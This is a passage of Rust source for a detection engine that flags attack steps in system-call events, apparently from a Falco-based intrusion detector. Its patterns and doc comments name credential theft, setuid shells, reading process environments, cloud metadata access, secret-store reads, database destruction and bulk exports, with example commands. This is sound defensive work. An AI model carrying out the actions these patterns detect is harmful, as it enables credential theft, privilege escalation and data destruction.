    path.strip_prefix("/root/.ssh/")
        .is_some_and(|rest| rest.starts_with("authorized_keys"))
}

/// Whether a shell's arguments start it interactive: no command and no script, only short
/// options without `c` (`bash`, `sh -i`, `bash -l`).
fn interactive_shell_args(args: &[&str]) -> bool {
    args.iter()
        .all(|a| a.starts_with('-') && !a.starts_with("--") && !a.contains('c'))
}

/// Whether the execution of a shell (arguments `args`) is a [`Step::ShellEscape`]: an
/// interactive shell (no command, no script: only flags such as `-i`, `-l`, `-p`) whose
/// parent is a program of its own, not a shell, a login or terminal entry, a runtime, a
/// privilege change, an init, a scheduler or a CI runner. An unknown parent is no escape.
fn shell_escape(ev: &FlatEvent, args: &[&str]) -> bool {
    let interactive = interactive_shell_args(args);
    let Some(parent) = text(ev, "proc.pname").filter(|p| !p.is_empty()) else {
        return false;
    };
    interactive
        && !matches!(
            role(&parent),
            Role::Shell
                | Role::Login
                | Role::Runtime
                | Role::Privilege
                | Role::Init
                | Role::Scheduler
                | Role::CiRunner
        )
}

/// The credential material a general-purpose reader (`READERS`) is given inside a command
/// line, if any: a reader heading a command after a shell separator (`;`, `&`, `|`, a new
/// line) or a shell's `-c` (`bwrap --bind / / sh -c id; cat /builds/x/.signing/key.pem`). The
/// command line's own program is judged as itself; a variable names nothing.
pub fn command_reads_credentials(cmd: &str) -> Option<String> {
    // Every execution passes here: nothing is allocated unless the line has a sub-command.
    if !cmd.contains([';', '&', '|', '\n']) && !cmd.contains(" -c ") {
        return None;
    }
    let separators = |c: char| matches!(c, ';' | '&' | '|' | '\n' | '(' | ')' | '`');
    for segment in cmd.split(separators) {
        let words: Vec<&str> = segment
            .split_whitespace()
            .map(|w| w.trim_matches(|c| matches!(c, '"' | '\'' | '\\')))
            .filter(|w| !w.is_empty())
            .collect();
        let heads = std::iter::once(0).chain(
            words
                .iter()
                .enumerate()
                .filter(|(_, w)| **w == "-c")
                .map(|(i, _)| i + 1),
        );
        for h in heads {
            let Some(head) = words.get(h) else { continue };
            let base = head.rsplit('/').next().unwrap_or(head);
            // The line's own first word is its program, judged by `attack_step` itself.
            if (h == 0 && segment.as_ptr() == cmd.as_ptr()) || !READERS.contains(&base) {
                continue;
            }
            if let Some(p) = words[h + 1..]
                .iter()
                .find(|a| a.starts_with('/') && is_credential_material(a))
            {
                return Some((*p).to_string());
            }
        }
    }
    None
}

/// Accounts that serve clients over the network: the web servers' under each distribution's
/// name ([`crate::kinds::WEB_SERVER_ACCOUNTS`]), nginx's, application servers' and `nobody`.
/// A database's or a build server's account is not among them: administrators take their
/// shells by routine (`sudo -u postgres -i`).
pub const SERVING_ACCOUNTS: &[&str] = &["nginx", "_www", "tomcat", "node", "nobody", "nfsnobody"];

/// The serving account ([`SERVING_ACCOUNTS`]) an interactive shell (no command, no script:
/// arguments only short options without `c`) runs as when a privilege change started it
/// (`sudo -u www-data /bin/bash`, `su -s /bin/sh nginx`), if any ([`Step::ServingAccountShell`]).
fn serving_account_shell(ev: &FlatEvent, args: &[&str]) -> Option<String> {
    let interactive = interactive_shell_args(args);
    let user = text(ev, "user.name")?;
    let serving = crate::kinds::WEB_SERVER_ACCOUNTS.contains(&user.as_str())
        || SERVING_ACCOUNTS.contains(&user.as_str());
    let parent = text(ev, "proc.pname")?;
    (interactive && serving && role(&parent) == Role::Privilege).then_some(user)
}

/// The longest shell command (`-c`) read for [`unnamed_by_shell`]: a longer one may have been
/// cut short where it was recorded, and a program named past the cut would look unnamed.
const MAX_SHELL_COMMAND: usize = 2048;

/// The words of a shell command (`-c`) that name programs, as base names: every word, split
/// at the shell's separators and quotes. `None` when the command computes what it runs (a
/// word in command position that expands a variable or a substitution, `eval`, `source` or
/// `.`, `exec "$@"`), so the programs it starts cannot be read from it.
fn shell_command_names(command: &str) -> Option<std::collections::HashSet<String>> {
    let mut names = std::collections::HashSet::new();
    let separators = |c: char| matches!(c, ';' | '&' | '|' | '(' | ')' | '{' | '}' | '\n' | '`');
    for segment in command.split(separators) {
        let words: Vec<&str> = segment
            .split_whitespace()
            .map(|w| w.trim_matches(|c| matches!(c, '"' | '\'' | '\\')))
            .filter(|w| !w.is_empty())
            .collect();
        // The command word: past variable assignments (`LANG=C sort`) and `!`.
        let head = words.iter().find(|w| {
            !(**w == "!"
                || w.split_once('=')
                    .is_some_and(|(k, _)| !k.is_empty() && !k.contains('/')))
        });
        if let Some(h) = head {
            if h.starts_with('$') || matches!(*h, "eval" | "source" | ".") {
                return None;
            }
        }
        for w in words {
            let base = w.rsplit('/').next().unwrap_or(w);
            if !base.is_empty() {
                names.insert(base.to_string());
            }
        }
    }
    Some(names)
}

/// The parent shell's command line when the program of exec event `ev` was started by a
/// shell given a command (`sh -c '…'`, `bash -ec '…'`) that does not name it by any of its
/// names (its own name, its executable's, the first words of its command line: an
/// interpreter's script is the program named), else `None` ([`Step::InjectedCommand`]).
/// A login or interactive shell (`bash -lc`, `-ic`) reads profiles that may run anything,
/// and a command that computes what it runs names nothing: neither is evidence.
fn unnamed_by_shell(ev: &FlatEvent) -> Option<String> {
    let parent = text(ev, "proc.pname")?;
    if role(&parent) != Role::Shell {
        return None;
    }
    let pcmd = text(ev, "proc.pcmdline")?;
    let mut words = pcmd.split(' ');
    words.next()?;
    let mut command = None;
    let mut rest = pcmd.split_once(' ').map_or("", |(_, r)| r);
    for w in words {
        rest = rest.get(w.len()..).unwrap_or("").trim_start_matches(' ');
        if !w.starts_with('-') || w.starts_with("--") || w.len() < 2 {
            break;
        }
        let flags = &w[1..];
        if flags.contains('l') || flags.contains('i') {
            return None;
        }
        if flags.ends_with('c') {
            command = Some(rest);
            break;
        }
    }
    let command = command?;
    if command.is_empty() || command.len() > MAX_SHELL_COMMAND {
        return None;
    }
    let named = shell_command_names(command)?;
    let base = |p: &str| p.rsplit('/').next().unwrap_or(p).to_string();
    let cmd = text(ev, "proc.cmdline").unwrap_or_default();
    let mut candidates: Vec<String> = cmd
        .split_whitespace()
        .take(2)
        .filter(|w| !w.starts_with('-'))
        .map(base)
        .collect();
    candidates.extend(
        ["proc.name", "proc.exepath", "proc.exe"]
            .iter()
            .filter_map(|k| text(ev, k))
            .map(|v| base(&v)),
    );
    // The kernel cuts a program's name (`comm`) at 15 bytes.
    let found = candidates.iter().filter(|c| !c.is_empty()).any(|c| {
        named.contains(c) || (c.len() == 15 && named.iter().any(|n| n.starts_with(c.as_str())))
    });
    (!found).then_some(pcmd)
}

/// Whether an event is the execution of a general-purpose reader (`READERS`: `cat`,
/// `strings`, `xxd`...) given another process's environment (`cat /proc/1/environ`): the
/// environment printed, not read by a program's own code.
pub fn prints_environment(ev: &FlatEvent) -> bool {
    let exec = matches!(text(ev, "evt.type").as_deref(), Some("execve" | "execveat"))
        && crate::input::int(ev, "evt.rawres").is_none_or(|r| r == 0);
    if !exec {
        return false;
    }
    let Some(cmd) = text(ev, "proc.cmdline") else {
        return false;
    };
    let mut words = cmd.split_whitespace();
    let reader = words
        .next()
        .map(|w| w.rsplit('/').next().unwrap_or(w))
        .is_some_and(|n| READERS.contains(&n));
    reader
        && words
            .map(|w| w.trim_matches(|c| c == '"' || c == '\''))
            .any(process_environment)
}

/// Whether a path is another process's environment (`/proc/1/environ`,
/// `/proc/812/task/815/environ`, `/proc/*/environ`): where a workload keeps the secrets it
/// was given (database passwords, API tokens, cloud keys), so reading it reads credential
/// material. A process's own (`/proc/self/environ`) holds nothing it does not have.
pub fn process_environment(path: &str) -> bool {
    let Some(rest) = path.strip_prefix("/proc/") else {
        return false;
    };
    let parts: Vec<&str> = rest.split('/').collect();
    let pid = |p: &str| p == "*" || (!p.is_empty() && p.bytes().all(|b| b.is_ascii_digit()));
    match parts.as_slice() {
        [p, "environ"] => pid(p),
        [p, "task", t, "environ"] => pid(p) && pid(t),
        _ => false,
    }
}

/// Whether a path is a persistence location or an account or privilege database: writing
/// it keeps an intruder's access or gives one.
fn privileged_file(path: &str) -> bool {
    let base = path.rsplit('/').next().unwrap_or(path);
    is_persistence(path)
        || matches!(
            base,
            "authorized_keys"
                | "authorized_keys2"
                | "sudoers"
                | "shadow"
                | "gshadow"
                | "passwd"
                | "group"
                | "ld.so.preload"
        ) && (path.starts_with("/etc/") || path.contains("/.ssh/"))
        || privilege_policy(path)
        || path.starts_with("/etc/pam.d/")
        || path.starts_with("/etc/ld.so.conf")
}

/// Whether a path is a privilege tool's policy: who may run what as whom (`sudoers` and
/// `sudoers.d`, OpenBSD's and Alpine's `doas.conf` and `doas.d`, polkit's rules). Writing
/// one grants root as surely as an account change (session 24, the blind holdout33: `doas
/// vi /etc/doas.conf` on an Alpine board was a person's quiet session).
pub fn privilege_policy(path: &str) -> bool {
    path == "/etc/sudoers"
        || path.starts_with("/etc/sudoers.d/")
        || matches!(path, "/etc/doas.conf" | "/usr/local/etc/doas.conf")
        || path.starts_with("/etc/doas.d/")
        || path.starts_with("/etc/polkit-1/rules.d/")
        || path.starts_with("/etc/polkit-1/localauthority/")
        || path.starts_with("/usr/share/polkit-1/rules.d/")
}

/// Whether a path is a security record: authentication and audit logs, login records,
/// the journal, shell history.
fn security_record(path: &str) -> bool {
    sensitivity(path) == Sensitivity::High
        && !is_credential_material(path)
        && !privileged_file(path)
}

/// Whether a mode (`evt.arg.mode`: Falco's flag notation `S_IRUSR|...|S_ISUID`, or an
/// octal number) sets the setuid or setgid bit.
fn mode_sets_id(mode: &str) -> bool {
    match mode_bits(mode) {
        Some(m) => m & 0o6000 != 0 && !shared_directory_mode(m),
        // A notation not read whole (another flag, a value beside the flags): by its flags.
        None => mode.contains("S_ISUID") || mode.contains("S_ISGID"),
    }
}

/// The permission bits of a mode written as Falco's flags (`S_IRWXU|S_ISGID|...`) or in
/// octal (`2775`, `0o4755`). `None` for anything else.
fn mode_bits(mode: &str) -> Option<u32> {
    const FLAGS: &[(&str, u32)] = &[
        ("S_ISUID", 0o4000),
        ("S_ISGID", 0o2000),
        ("S_ISVTX", 0o1000),
        ("S_IRWXU", 0o700),
        ("S_IRUSR", 0o400),
        ("S_IWUSR", 0o200),
        ("S_IXUSR", 0o100),
        ("S_IRWXG", 0o070),
        ("S_IRGRP", 0o040),
        ("S_IWGRP", 0o020),
        ("S_IXGRP", 0o010),
        ("S_IRWXO", 0o007),
        ("S_IROTH", 0o004),
        ("S_IWOTH", 0o002),
        ("S_IXOTH", 0o001),
    ];
    let m = mode.trim();
    if m.contains("S_I") {
        return m
            .split('|')
            .map(|f| FLAGS.iter().find(|(n, _)| *n == f.trim()).map(|(_, b)| *b))
            .try_fold(0, |acc, b| b.map(|b| acc | b));
    }
    let digits = m.trim_start_matches("0o");
    (!digits.is_empty() && digits.chars().all(|c| c.is_digit(8)))
        .then(|| u32::from_str_radix(digits, 8).ok())
        .flatten()
}

/// Whether a mode is a shared directory's: setgid without setuid, writable by the group and
/// not by others (`2775`, `2770`). New files below such a directory take its group, which
/// is what teams' shares, upload drops and build areas are set up for; on a program the
/// group write would let any member replace it, so no one grants a program's setgid that
/// way. A setuid bit, a world-writable setgid mode (`2777`) or a setgid without group write
/// (`2755`, `2555`: `postdrop`) is still a setid step.
fn shared_directory_mode(m: u32) -> bool {
    m & 0o4000 == 0 && m & 0o2000 != 0 && m & 0o020 != 0 && m & 0o002 == 0
}

/// Whether a `chmod` command line sets a setuid or setgid bit (`u+s`, `g+s`, `+s`, or a
/// four-digit octal mode with either bit).
fn chmod_sets_id(cmd: &str) -> bool {
    cmd.split_whitespace().skip(1).any(|w| {
        if w.starts_with('-') {
            return false;
        }
        let symbolic = w.split(',').any(|c| {
            c.contains(['+', '=']) && c.rsplit(['+', '=']).next().is_some_and(|p| p.contains('s'))
        });
        let octal = w.len() >= 4 && w.chars().all(|c| c.is_digit(8)) && mode_sets_id(w);
        symbolic || octal
    })
}

/// Whether a setuid or setgid step ([`Step::SetId`], by what it touched: the path of a
/// `chmod` call, or the command line of `chmod` or `install -m`) gives the bit to a shell
/// or an interpreter: one by name ([`names_shell`]), a file `copied` says the session made
/// as a copy of one, or `install -m 4755 /bin/bash FILE`. A setuid shell is a root shell
/// for whoever runs it; no routine work leaves one.
pub fn gives_shell_setid(what: &str, copied: &dyn Fn(&str) -> bool) -> bool {
    let first = what.split_whitespace().next().unwrap_or_default();
    match first.rsplit('/').next().unwrap_or(first) {
        "chmod" if what.contains(char::is_whitespace) => what
            .split_whitespace()
            .skip(1)
            .filter(|w| !w.starts_with('-'))
            .skip(1)
            .any(|p| names_shell(p) || copied(p)),
        "install" if what.contains(char::is_whitespace) => !copies_shell(what).is_empty(),
        _ => names_shell(what) || copied(what),
    }
}

/// Whether an `install` command line's mode (`-m 4755`, `-m4755`, `--mode=u+s`) sets a
/// setuid or setgid bit.
fn install_sets_id(args: &[&str]) -> bool {
    let mode_sets = |m: &str| {
        mode_sets_id(m)
            || m.split(',').any(|c| {
                c.contains(['+', '='])
                    && c.rsplit(['+', '=']).next().is_some_and(|p| p.contains('s'))
            })
    };
    args.iter().enumerate().any(|(i, a)| match *a {
        "-m" | "--mode" => args.get(i + 1).is_some_and(|m| mode_sets(m)),
        a => a
            .strip_prefix("--mode=")
            .or_else(|| a.strip_prefix("-m").filter(|m| !m.is_empty()))
            .is_some_and(mode_sets),
    })
}

/// Whether a file is, by its name, a shell or an interpreter (`/bin/bash`,
/// `/tmp/python3.11`, `/usr/local/bin/busybox`): a setuid copy of one is a root shell.
pub fn names_shell(path: &str) -> bool {
    let base = path.rsplit('/').next().unwrap_or(path);
    let stem = base.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    SHELLS.contains(&stem) || INTERPRETERS.contains(&stem)
}

/// The file a copy command line makes of a shell or interpreter, if it makes one: `cp`,
/// `install` or `rsync` whose sources include a shell or interpreter by name
/// ([`names_shell`]), or `dd if=SHELL of=FILE`. The destination as written, and, for a
/// destination that ends with `/`, the copy's path inside it.
pub fn copies_shell(cmd: &str) -> Vec<String> {
    let mut words = cmd.split_whitespace();
    let prog = words.next().unwrap_or_default();
    let prog = prog.rsplit('/').next().unwrap_or(prog);
    // Every execution passes here: no allocation for any other program.
    if !matches!(prog, "cp" | "install" | "rsync" | "dd") {
        return Vec::new();
    }
    let args: Vec<&str> = words.collect();
    if prog == "dd" {
        let get = |k: &str| args.iter().find_map(|a| a.strip_prefix(k));
        return match (get("if="), get("of=")) {
            (Some(src), Some(dst)) if names_shell(src) => vec![dst.to_string()],
            _ => Vec::new(),
        };
    }
    // Options that take the next word as their value.
    let valued: &[&str] = match prog {
        "install" => &["-m", "-o", "-g", "-S", "-t", "--mode", "--owner", "--group"],
        "cp" => &["-t", "--target-directory"],
        _ => &["-e", "--rsh", "--exclude", "--include", "-f", "--filter"],
    };
    let mut operands = Vec::new();
    let mut skip = false;
    for a in &args {
        if skip {
            skip = false;
            continue;
        }
        if a.starts_with('-') {
            skip = valued.contains(a);
            continue;
        }
        operands.push(*a);
    }
    let Some((dst, srcs)) = operands.split_last() else {
        return Vec::new();
    };
    let mut out = Vec::new();
    for src in srcs.iter().filter(|s| names_shell(s)) {
        if let Some(dir) = dst.strip_suffix('/') {
            let base = src.rsplit('/').next().unwrap_or(src);
            out.push(format!("{dir}/{base}"));
        } else {
            out.push(dst.to_string());
        }
    }
    out
}

/// Whether a host (an address or a name) is a cloud's instance metadata service: the
/// link-local `169.254.169.254` (AWS, Azure, GCP, OpenStack...), AWS's IPv6 `fd00:ec2::254`,
/// or GCP's `metadata.google.internal` (any case, with or without a final dot).
pub fn is_instance_metadata_host(host: &str) -> bool {
    let h = host
        .trim_matches(|c| c == '[' || c == ']')
        .trim_end_matches('.');
    match h.parse::<IpAddr>() {
        Ok(ip) => is_instance_metadata_ip(&ip),
        Err(_) => h.eq_ignore_ascii_case("metadata.google.internal"),
    }
}

/// [`is_instance_metadata_host`] of an address, without formatting it.
pub fn is_instance_metadata_ip(ip: &IpAddr) -> bool {
    match ip {
        IpAddr::V4(v) => v.octets() == [169, 254, 169, 254],
        IpAddr::V6(v) => v.segments() == [0xfd00, 0xec2, 0, 0, 0, 0, 0, 0x254],
    }
}

/// The URLs of a command line, as written.
fn urls(cmd: &str) -> impl Iterator<Item = &str> {
    cmd.split_whitespace()
        .map(|w| w.trim_matches(|c| c == '"' || c == '\''))
        .filter(|w| w.contains("://"))
}

/// Whether a URL asks for secrets, tokens or a cloud instance's credentials: a path
/// segment `secrets` or `token`/`tokenrequest`(s)/`serviceaccounts/…/token`, or the
/// instance metadata address.
fn asks_for_secrets(url: &str) -> bool {
    let Some((_, rest)) = url.split_once("://") else {
        return false;
    };
    let (authority, path) = rest.split_once('/').unwrap_or((rest, ""));
    let host = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    let host = host.split(':').next().unwrap_or(host);
    if is_instance_metadata_host(host) {
        return true;
    }
    path.split(['/', '?', '#']).any(|seg| {
        matches!(
            seg.to_ascii_lowercase().as_str(),
            "secrets" | "token" | "tokens" | "tokenrequest" | "tokenrequests" | "credentials"
        )
    })
}

/// [`orchestrator_cli_asks_for_secrets`] or [`cli_reads_secret_store`] of a whole command
/// line (its program's file name, then its arguments).
pub fn cmdline_asks_for_secrets(cmdline: &str) -> bool {
    let mut words = cmdline.split_whitespace();
    let program = words.next().unwrap_or_default();
    let name = program.rsplit('/').next().unwrap_or(program);
    let args: Vec<&str> = words.collect();
    orchestrator_cli_asks_for_secrets(name, &args) || cli_reads_secret_store(&args)
}

/// Whether a command line's program is a downloader (`curl`, `wget`...) given a URL that
/// asks for secrets, tokens or a cloud instance's credentials (the instance metadata
/// address included).
pub fn cmdline_fetches_secrets(cmdline: &str) -> bool {
    let program = cmdline.split_whitespace().next().unwrap_or_default();
    let name = program.rsplit('/').next().unwrap_or(program);
    DOWNLOADERS.contains(&name) && urls(cmdline).any(asks_for_secrets)
}

/// Whether an orchestrator's command-line client (`kubectl`, `oc`) is asked for secrets or
/// tokens: `get`, `describe` or `edit` of a `secret(s)` resource (alone, in a list such as
/// `secrets,configmaps`, or as `secret/NAME`), or `create token`.
pub fn orchestrator_cli_asks_for_secrets(name: &str, args: &[&str]) -> bool {
    if !(name == "kubectl" || name == "oc" || name.starts_with("kubectl-")) {
        return false;
    }
    let words: Vec<&str> = args
        .iter()
        .copied()
        .filter(|a| !a.starts_with('-'))
        .collect();
    let is_secret = |w: &str| {
        w.split(',')
            .any(|r| matches!(r.split('/').next(), Some("secret" | "secrets")))
    };
    words.windows(2).any(|w| match w[0] {
        "get" | "describe" | "edit" => is_secret(w[1]),
        "create" => w[1] == "token",
        _ => false,
    })
}

/// The words of a command line for [`cmdline_destroys_store`] and [`cmdline_takes_store`]:
/// lower case, split at white space, quotes and the punctuation of query languages
/// (`;`, `,`, `(`, `)`, `.`, `=`), so that `-q "DROP DATABASE x"` and `db.dropDatabase()`
/// give their words whatever the client.
fn command_words(cmdline: &str) -> Vec<String> {
    cmdline
        .to_ascii_lowercase()
        .split(|c: char| {
            c.is_whitespace() || matches!(c, '"' | '\'' | '`' | ';' | ',' | '(' | ')' | '.' | '=')
        })
        .filter(|w| !w.is_empty())
        .map(str::to_string)
        .collect()
}

/// Whether a command line destroys a whole data store, whatever its program
/// ([`Step::StoreDestroyed`]): `DROP DATABASE`, `DROP SCHEMA` or `DROP KEYSPACE` (SQL and
/// CQL, with or without `IF EXISTS`), a key-value store's `FLUSHALL` or `FLUSHDB`, a
/// document store's `dropDatabase()`. A verb of the query language, not a product list;
/// `DROP TABLE` (routine in migrations and ETL staging) is not one. Also the files a search
/// selects as changed recently and destroys (`find … -mtime -30 -exec shred -u {} +`,
/// `destroys_recent`): a retention purge takes the oldest, never the newest.
pub fn cmdline_destroys_store(cmdline: &str) -> bool {
    destroys_store(&command_words(cmdline))
}

/// [`cmdline_destroys_store`] of a command line's [`command_words`].
fn destroys_store(w: &[String]) -> bool {
    w.iter()
        .any(|x| matches!(x.as_str(), "flushall" | "flushdb" | "dropdatabase"))
        || w.windows(2)
            .any(|p| p[0] == "drop" && matches!(p[1].as_str(), "database" | "schema" | "keyspace"))
        || destroys_recent(w)
}

/// A file search that selects what changed recently (`-mtime -N`, `-mmin -N`, `-ctime -N`,
/// `-cmin -N`, `-newer FILE`, `-newermt DATE`) and destroys it (`-delete`, or `-exec`,
/// `-execdir`, `-ok` of `rm`, `shred`, `unlink`, `wipe`, `srm`): data still in use destroyed.
/// A retention job removes what is older than its period (`-mtime +N`), never the newest.
fn destroys_recent(w: &[String]) -> bool {
    let window = |v: &str| {
        v.strip_prefix('-')
            .is_some_and(|n| !n.is_empty() && n.chars().all(|c| c.is_ascii_digit()))
    };
    let recent = w
        .windows(2)
        .any(|p| matches!(p[0].as_str(), "-mtime" | "-mmin" | "-ctime" | "-cmin") && window(&p[1]))
        || w.iter().any(|x| x.starts_with("-newer"));
    let destroys = w.iter().any(|x| x == "-delete")
        || w.windows(2).any(|p| {
            matches!(p[0].as_str(), "-exec" | "-execdir" | "-ok" | "-okdir")
                && matches!(
                    p[1].rsplit('/').next().unwrap_or_default(),
                    "rm" | "shred" | "unlink" | "wipe" | "srm"
                )
        });
    recent && destroys
}

/// Programs that overwrite files before removing them, so nothing can be recovered.
const WIPERS: &[&str] = &["shred", "wipe", "srm"];

/// Whether a secure-deletion program (`shred`, `wipe`, `srm`, or `find` running one) wipes
/// files dated in the current year of the event at `ts_ns` (a path's run of digits that is
/// that year, or a `YYYYMM`/`YYYYMMDD` run starting with it): the records still in use, not
/// a retention purge, which takes the oldest (the blind holdout25: an insider's `sudo shred
/// -u` of the current year's batch records, in a session as quiet as any admin's).
pub fn wipes_current_records(program: &str, args: &[&str], ts_ns: u64) -> bool {
    let wiper = |p: &str| WIPERS.contains(&p.rsplit('/').next().unwrap_or(p));
    let wipes = wiper(program)
        || (program == "find"
            && args
                .windows(2)
                .any(|w| matches!(w[0], "-exec" | "-execdir" | "-ok" | "-okdir") && wiper(w[1])));
    if !wipes {
        return false;
    }
    let time = quell_rules::output::falco_time(ts_ns);
    let Some(year) = time.get(..4) else {
        return false;
    };
    args.iter().filter(|a| a.contains('/')).any(|a| {
        a.split(|c: char| !c.is_ascii_digit())
            .any(|run| run == year || (matches!(run.len(), 6 | 8) && run.starts_with(year)))
    })
}

/// Whether a command line takes a whole data store at once, whatever its program
/// ([`Step::StoreTaken`]): every database (`--all-databases`), a table exported in bulk
/// (`exports_table`), a DNS zone transfer (`AXFR`, `IXFR`, as a query type or
/// `type=axfr`), a keyring's secret keys (`--export-secret-keys`, `--export-secret-subkeys`).
pub fn cmdline_takes_store(cmdline: &str) -> bool {
    takes_store(&command_words(cmdline))
}

/// [`cmdline_takes_store`] of a command line's [`command_words`].
fn takes_store(w: &[String]) -> bool {
    w.iter().any(|x| {
        matches!(
            x.as_str(),
            "--all-databases"
                | "axfr"
                | "ixfr"
                | "--export-secret-keys"
                | "--export-secret-subkeys"
        )
    }) || exports_table(w)
}

/// Whether a query exports a table's rows out of the database in bulk: SQL's `COPY … TO
/// STDOUT`, `TO PROGRAM` or `TO '/path'` (psql's `\copy` too), MySQL's `INTO OUTFILE` or
/// `INTO DUMPFILE` (session 23: a stolen exec shell's `psql -c "COPY customers TO STDOUT"`).
/// `COPY … FROM` (a load) is not one.
fn exports_table(w: &[String]) -> bool {
    let copy = w.iter().position(|x| x == "copy" || x == "\\copy");
    let to_out = |i: usize| {
        w.get(i).is_some_and(|x| x == "to")
            && w.get(i + 1)
                .is_some_and(|d| d == "stdout" || d == "program" || d.starts_with('/'))
    };
    copy.is_some_and(|c| (c + 1..w.len()).any(to_out))
        || w.windows(2)
            .any(|p| p[0] == "into" && matches!(p[1].as_str(), "outfile" | "dumpfile"))
}

/// Whether a command-line client reads a secret store, whatever its product
/// ([`Step::SecretsRequest`]): a read verb (`get`, `list`, `read`, `show`, `access`,
/// `describe`, `export`, or a `get-…` operation) beside the name of a secrets engine, path or
/// resource (a `secret`/`secrets` path segment, `secretsmanager`, `keyvault`, a `get-…secret…`
/// operation): `vault kv get secret/app`, `aws secretsmanager get-secret-value`, `gcloud
/// secrets versions access`, `az keyvault secret show`. Flags are not words, nor is the word
/// after a flag written without `=` (its value: `kubectl get pods -n secrets`).
pub fn cli_reads_secret_store(args: &[&str]) -> bool {
    // Called for every program started: nothing is allocated unless a word names secrets.
    let names_secrets = |a: &&str| {
        let b = a.as_bytes();
        b.windows(6).any(|w| w.eq_ignore_ascii_case(b"secret"))
            || b.windows(8).any(|w| w.eq_ignore_ascii_case(b"keyvault"))
    };
    if !args.iter().any(names_secrets) {
        return false;
    }
    let words: Vec<String> = args
        .iter()
        .enumerate()
        .filter(|(i, a)| {
            !a.starts_with('-')
                && !(i.checked_sub(1).and_then(|j| args.get(j)))
                    .is_some_and(|prev| prev.starts_with('-') && !prev.contains('='))
        })
        .map(|(_, a)| a.to_ascii_lowercase())
        .collect();
    let secretish = |w: &str| {
        w.split(['/', ':'])
            .any(|seg| matches!(seg, "secret" | "secrets" | "secretsmanager" | "keyvault"))
            || (w.starts_with("get-") && w.contains("secret"))
    };
    let verb = |w: &str| {
        matches!(
            w,
            "get" | "list" | "read" | "show" | "access" | "describe" | "export"
        ) || w.starts_with("get-")
    };
    words.iter().any(|w| secretish(w)) && words.iter().any(|w| verb(w))
}

/// Whether a command line gives a data store account the run of the whole store, whatever
/// its program ([`Step::AccountChange`]): an account created or altered as a superuser
/// (`CREATE USER … SUPERUSER`, `ALTER ROLE … SUPERUSER`), every privilege on every database
/// (`GRANT ALL … ON *.*`), a document store's account made or given an administrator's role
/// (`createUser`/`grantRolesToUser`/`updateUser` with `root`, `clusterAdmin` or an
/// `…AnyDatabase` role), a key-value store's account given every command (`ACL SETUSER … +@all`).
pub fn cmdline_grants_store_admin(cmdline: &str) -> bool {
    grants_store_admin(&command_words(cmdline), cmdline)
}

/// [`cmdline_grants_store_admin`] of a command line's [`command_words`] (`w`) and its text.
fn grants_store_admin(w: &[String], cmdline: &str) -> bool {
    let has = |x: &str| w.iter().any(|y| y == x);
    let sql_account = w.windows(2).any(|p| {
        matches!(p[0].as_str(), "create" | "alter")
            && matches!(p[1].as_str(), "user" | "role" | "login")
    });
    let doc_account = has("createuser") || has("grantrolestouser") || has("updateuser");
    // `root` only as a role (after a word naming roles), never `-u root` logging in.
    let admin_role = w
        .iter()
        .any(|y| y == "clusteradmin" || y.ends_with("anydatabase"))
        || w.windows(2).any(|p| {
            p[0].contains("role")
                && p[1].trim_matches(|c: char| !c.is_ascii_alphanumeric()) == "root"
        });
    let grant_everything =
        w.windows(2).any(|p| p[0] == "grant" && p[1] == "all") && cmdline.contains("*.*");
    (sql_account && has("superuser"))
        || (doc_account && admin_role)
        || grant_everything
        || (has("setuser") && (has("+@all") || has("allcommands")))
}

/// Programs that run with more privilege than their caller (setuid root, or a privilege
/// tool): the dynamic loader's variables given to one of them are an attack on it.
const PRIVILEGE_PROGRAMS: &[&str] = &[
    "su",
    "sudo",
    "pkexec",
    "doas",
    "passwd",
    "chsh",
    "chfn",
    "newgrp",
    "gpasswd",
    "mount",
    "umount",
    "fusermount",
    "fusermount3",
    "at",
    "crontab",
    "expiry",
    "chage",
];

/// The loader variable an exec turns against the program ([`Step::LoaderHijack`]), from
/// the process's environment (`proc.env`, `K=V K=V`).
pub fn loader_hijack(ev: &FlatEvent) -> Option<String> {
    let env = text(ev, "proc.env")?;
    let name = text(ev, "proc.name").unwrap_or_default();
    let privileged = PRIVILEGE_PROGRAMS.contains(&name.as_str());
    env.split(' ').find_map(|kv| {
        let (k, v) = kv.split_once('=')?;
        let hit = match k {
            "GLIBC_TUNABLES" => v.contains("glibc.tunables="),
            "LD_PRELOAD" | "LD_AUDIT" | "LD_LIBRARY_PATH" => {
                privileged
                    && v.split([':', ' '])
                        .any(|p| p.starts_with('/') && in_drop_dir(p))
            }
            _ => false,
        };
        hit.then(|| format!("{name} with {}", kv.chars().take(120).collect::<String>()))
    })
}

/// Whether a system call succeeded (no negative return, not marked failed).
fn succeeded(ev: &FlatEvent) -> bool {
    int(ev, "evt.rawres").is_none_or(|r| r >= 0)
        && !matches!(ev.get("evt.failed"), Some(quell_rules::Value::Bool(true)))
}

/// The step toward an attack that one event shows by itself, if any, with what it touched
/// or ran. See [`Step`].
pub fn attack_step(ev: &FlatEvent) -> Option<(Step, String)> {
    let ty = text(ev, "evt.type")?;
    if !succeeded(ev) {
        return None;
    }
    let path_of = |keys: &[&str]| keys.iter().find_map(|k| text(ev, k));
    if is_exec(ev) {
        let name = text(ev, "proc.name").unwrap_or_default();
        let cmd = text(ev, "proc.cmdline").unwrap_or_default();
        let args: Vec<&str> = cmd.split_whitespace().skip(1).collect();
        if let Some(parent) = unnamed_by_shell(ev) {
            return Some((Step::InjectedCommand, format!("{cmd} < {parent}")));
        }
        if let Some(what) = loader_hijack(ev) {
            return Some((Step::LoaderHijack, what));
        }
        // The command line's words, split once for the three whole-store checks.
        let words = command_words(&cmd);
        if destroys_store(&words) {
            return Some((Step::StoreDestroyed, cmd));
        }
        if ev
            .timestamp_ns()
            .is_some_and(|t| wipes_current_records(&name, &args, t))
        {
            return Some((Step::StoreDestroyed, cmd));
        }
        if takes_store(&words) {
            return Some((Step::StoreTaken, cmd));
        }
        if grants_store_admin(&words, &cmd) {
            return Some((Step::AccountChange, cmd));
        }
        if name == "chmod" && chmod_sets_id(&cmd) {
            return Some((Step::SetId, cmd));
        }
        if name == "install" && install_sets_id(&args) {
            return Some((Step::SetId, cmd));
        }
        if ACCOUNT_CHANGERS.contains(&name.as_str()) && gives_root_id(&args) {
            return Some((Step::RootAccount, cmd));
        }
        if ACCOUNT_CHANGERS.contains(&name.as_str()) {
            // `passwd -S` only shows an account's status.
            let status_only =
                name == "passwd" && args.iter().any(|a| *a == "-S" || *a == "--status");
            if !status_only {
                return Some((Step::AccountChange, cmd));
            }
        }
